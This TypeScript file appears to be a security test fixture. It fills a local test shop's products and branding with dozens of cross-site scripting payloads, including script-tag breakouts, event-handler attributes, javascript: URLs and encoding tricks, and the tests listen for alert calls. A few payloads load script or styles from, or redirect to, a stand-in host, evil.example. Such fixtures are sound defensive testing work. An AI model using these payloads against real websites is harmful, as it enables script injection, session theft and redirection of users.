import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { haat } from './operator.ts'

// F44: a shop in which every text is an injection attempt. The tests listen for `alert`.

const NAME = 'attacked'

export const PAYLOADS = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</ScRiPt ><sCrIpT>alert(1)</sCrIpT>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</noscript><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<!--<script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<script type=module>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '<img/src=x/onerror=alert(1)>',
  '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert&lpar;1&rpar;</script>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src=javascript:alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example";*{background:url(//evil.example)}</style>',
  '<form action=javascript:alert(1)><input type=submit autofocus>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<video src=x onerror=alert(1)>',
  '<audio src onloadstart=alert(1)>',
  '<a href=javascript:alert(1)>press</a>',
  '<a href="jav&#x09;ascript:alert(1)">press</a>',
  '<a href="&#106;avascript&colon;alert(1)">press</a>',
  '<a href="data:text/html,<script>alert(1)</script>">press</a>',
  '<a href="//evil.example" target=_blank>press</a>',
  '<button popovertarget=x onbeforetoggle=alert(1)>press</button>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '" onmouseover="alert(1)" style="position:fixed;inset:0',
  "' onfocus='alert(1)' autofocus='",
  '" autofocus onfocus=alert(1) x="',
  'javascript:alert(1)',
  '\\"};alert(1);//',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of somebody else's, for a page that would fill it in
  '${alert(1)}{{constructor.constructor("alert(1)")()}}',
  '"}]}</script><script>alert(1)</script>{"a":[{"b":"',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u2028alert(1)\u2029',
  '\u202e<script>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<\u0073cript>alert(1)</script\u00a0>',
  '__proto__',
]

/** The product with all injections; after it comes one product per injection, with the injection as its name. */
export const WORST = 'worst'

export async function openAttackedShop(data: string): Promise<void> {
  const [brand, goods] = [join(data, `${NAME}.json`), join(data, `${NAME}.csv`)]
  const title = '</title></script><script>alert(1)</script>"><img src=x onerror=alert(1)>'
  await writeFile(brand, JSON.stringify(branding()))
  await writeFile(goods, csv([worstProduct(), ...PAYLOADS.map(productCalled)]))
  await haat(data, ['reseller', 'add', NAME, '--title', title, '--host', `${NAME}.localhost`])
  await haat(data, ['reseller', 'set', NAME, '--file', brand])
  await haat(data, ['catalogue', 'import', goods, '--reseller', NAME])
}

function branding() {
  const link = `https://example.in/?${encodeURIComponent('"><script>alert(1)</script>')}`
  return {
    theme: { text: '#000000', background: '#ffffff', primary: '#ff6347', secondary: '#4CAF50', accent: '#00BCD4' },
    pixelId: '100000000000000',
    tagline: '"><img src=x onerror=alert(1)></script><script>alert(1)</script>',
    address: '</address><script>alert(1)</script><svg onload=alert(1)>',
    mobile: '"onfocus=alert(1) "',
    email: '"><script>alert(1)</script>@example.in',
    logo: '"onerror="alert(1).png',
    favicon: '"><script>alert(1).png',
    social: { fb: link, insta: link, linkedin: link, twitter: link, youtube: link },
    banners: [
      { image: '"onerror="alert(1).jpg', url: link },
      { image: '<script>alert(1)<script>.jpg', url: '/.//evil.example' },
    ],
  }
}

type Row = Record<string, string>

function worstProduct(): Row {
  return {
    ...productCalled(PAYLOADS.slice(0, 12).join(' '), -1),
    asin: WORST,
    sizes: '</script><script>alert(1)</script>=5|"><script>alert(1)</script>=0',
    stock: '',
    colors: PAYLOADS.join('|'),
    description: PAYLOADS.slice(0, 40).join(' '),
    description_html: PAYLOADS.join('<p>\n'),
    ...Object.fromEntries(PAYLOADS.map((payload) => [`detail: ${payload}`, payload])),
  }
}

function productCalled(payload: string, at: number): Row {
  const place = PAYLOADS[(at + 1) % 4]
  return {
    asin: `called-${at}`,
    name: payload,
    group: `Group ${place}`,
    category: `Place ${place}`,
    subcategory: `Nook ${place}`,
    discount_price: '499',
    stock: '5',
    badge: payload,
    badge1: payload,
    video: 'https://www.youtube.com/watch?v=abcdefghi-_&x=%22%3E%3Cscript%3E',
    colors: payload,
    material: payload,
    description: payload,
    description_html: payload,
    header_rows: `Row ${place}`,
    images: `${payload}.jpg`,
    category_image: `${payload}.jpg`,
    category_url: (at + 1) % 4 === 0 ? '/.//evil.example' : `https://example.in/?${at}`,
  }
}

function csv(rows: Row[]): string {
  const columns = Object.keys(rows[0] ?? {})
  const line = (cells: string[]) => cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',')
  return [line(columns), ...rows.map((row) => line(columns.map((column) => row[column] ?? '')))].join('\n')
}
